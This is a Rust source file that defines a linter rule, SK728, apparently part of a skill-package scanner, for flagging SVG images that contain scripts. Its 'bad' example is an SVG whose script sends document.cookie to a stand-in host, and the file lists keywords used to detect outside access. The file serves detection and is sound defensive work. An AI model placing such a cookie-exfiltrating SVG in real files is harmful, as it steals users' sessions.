//! SK728: SVG images with scripts.

use super::hosts::WebAddress;
use super::pattern_table;
use super::redact::redact_text;
use super::rule;
use super::scan::SecurityPattern;
use super::sink::{FindingSink, PatternFinding};
use super::text::TextKind;
use super::view::PatternMatch;
use crate::{ExampleFile, Rule, RuleDocs, RuleExample};
use skillpm_core::report::DiagnosticLevel;

const PAGE: (&str, ExampleFile) = (
    "pdf/SKILL.md",
    ExampleFile::Text(
        "---\nname: pdf\ndescription: Fill PDF forms. Use when a form is to be filled in.\n---\n\nSee ![form](form.svg).\n",
    ),
);

pub(super) static RULE: Rule = rule(
    "SK728",
    "svg-script",
    DiagnosticLevel::Error,
    "an SVG image contains a script",
    RuleDocs {
        finds: "SVG files with scripts, event handlers (`onload=`), `javascript:` URLs, external \
               entities or foreign HTML. A warning where the effect stays within the image.",
        hurts: "Opened in a browser the image runs: it can send data to a server, or lead to a \
               fake login page (phishing). Reviewers look at images, not into them.",
        ignore: "Interactive drawings. Make them an HTML page, which is known to run scripts.",
        bad: &[RuleExample::files(&[
            PAGE,
            (
                "pdf/form.svg",
                ExampleFile::Text(
                    "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://x.example/'+document.cookie)</script></svg>\n",
                ),
            ),
        ])],
        good: &[RuleExample::files(&[
            PAGE,
            (
                "pdf/form.svg",
                ExampleFile::Text(
                    "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>.a{fill:red}</style><rect class=\"a\" width=\"9\" height=\"9\"/></svg>\n",
                ),
            ),
        ])],
    },
);

pub(super) const PATTERNS: &[SecurityPattern] = pattern_table!("svg");

/// Parts of a script that reach beyond the image.
const OUTSIDE_ACCESS: [&str; 16] = [
    "fetch(",
    "xmlhttprequest",
    "eval(",
    "atob(",
    "location",
    "window.open",
    "import(",
    "src=",
    "href=",
    "cookie",
    "sendbeacon",
    "websocket",
    "function(",
    "system \"",
    "<iframe",
    "javascript:",
];

fn check_script(hit: &PatternMatch<'_>, sink: &mut FindingSink<'_>) {
    if hit.view.source.kind != TextKind::Svg {
        return;
    }

    let text = hit.text().to_lowercase();
    // Animation in the image itself is what scripts in images are mostly for.
    let reaches = OUTSIDE_ACCESS.iter().any(|word| text.contains(word))
        || WebAddress::find(hit.text()).is_some();
    let level = if reaches {
        DiagnosticLevel::Error
    } else {
        DiagnosticLevel::Warning
    };
    let what = if reaches {
        "runs a script with access beyond the image"
    } else {
        "runs a script"
    };

    let message = format!(
        "SVG image {what}: '{}'",
        // The script may be a thousand bytes long; its beginning shows what it is.
        redact_text(&hit.text()[..hit.text().floor_char_boundary(80)])
    );
    sink.report(
        hit,
        PatternFinding::new(
            &RULE,
            level,
            message,
            "draw it without scripts; use an HTML page if it has to be interactive",
        ),
    );
}
